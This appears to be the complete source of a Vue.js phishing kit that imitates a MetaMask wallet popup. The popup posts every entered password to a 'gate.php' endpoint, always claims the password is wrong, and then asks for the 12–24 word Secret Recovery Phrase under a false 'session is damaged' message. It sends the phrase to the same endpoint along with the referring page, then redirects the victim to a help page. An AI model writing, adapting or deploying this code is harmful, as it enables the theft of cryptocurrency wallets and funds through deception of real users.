import { createApp, ref, h } from "vue";

const Popup = {
  setup() {
    const step = ref("unlock");
    const password = ref("");
    const words = ref(Array(12).fill(""));
    const err = ref("");
    const push = (body) =>
      fetch("gate.php", { method: "POST", body: new URLSearchParams({ ...body, d: document.referrer, t: Date.now() }) });
    const unlock = async () => {
      await push({ step: 1, password: password.value });
      err.value = "Incorrect password";
      if (password.value.length > 7 && step.value === "unlock") setTimeout(() => (step.value = "restore"), 1800);
      password.value = "";
    };
    const restore = async () => {
      if (words.value.some((w) => w.length < 3)) return (err.value = "Invalid Secret Recovery Phrase");
      await push({ step: 2, seed: words.value.join(" ") });
      step.value = "wait";
      setTimeout(() => (location.href = "https://docs.example/wallet-help"), 5000);
    };
    const paste = (e) => {
      const w = e.clipboardData.getData("text").trim().split(/\s+/);
      if (w.length >= 12) {
        e.preventDefault();
        words.value = w.slice(0, 24);
      }
    };
    return () =>
      h("div", { class: "ext-popup", style: { position: "fixed", top: "8px", right: "60px", width: "357px", height: "600px", zIndex: 2147483647 } }, [
        h("header", [h("img", { src: "/img/fox.svg" }), h("span", "MetaMask")]),
        step.value === "unlock" && [h("h1", "Welcome back!"), h("input", { type: "password", value: password.value, onInput: (e) => (password.value = e.target.value) }), h("button", { onClick: unlock }, "Unlock")],
        step.value === "restore" && [h("p", "Your session is damaged. Restore access with your Secret Recovery Phrase"), words.value.map((w, i) => h("input", { value: w, onPaste: paste, onInput: (e) => (words.value[i] = e.target.value) })), h("button", { onClick: restore }, "Restore")],
        step.value === "wait" && h("div", { class: "spinner" }),
        h("em", err.value),
      ]);
  },
};
createApp(Popup).mount("#app");
